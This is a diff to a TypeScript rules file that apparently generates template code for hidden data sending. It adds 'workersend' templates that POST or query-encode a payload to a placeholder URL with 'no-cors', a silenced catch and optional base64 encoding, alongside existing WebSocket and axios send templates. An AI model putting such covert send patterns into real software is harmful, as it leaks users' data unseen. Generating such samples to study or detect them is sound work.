@@ -98,6 +98,11 @@ export const sharedRules: Rules = {
     "var @y=new WebSocket('wss://«host»/‹ws¦live¦stream¦e›');@y.onopen=function(){@y.send($$)};",
     "axios.post('«url»',$$);",
   ],
+  /** What workers can send by. */
+  workersend: [
+    "fetch(«frameurl»,{method:'POST',‹mode:'no-cors',¦›body:‹$$¦btoa(unescape(encodeURIComponent($$)))›})‹.catch(function(){})¦›;",
+    "fetch('«url»?‹d¦q¦e›='+encodeURIComponent($$),{mode:'no-cors'});",
+  ],
   /** Ways that only who hides sends by; honest code has its own uses of the same calls. */
   sneak: [
     '«send:$$»', '«send:$$»',
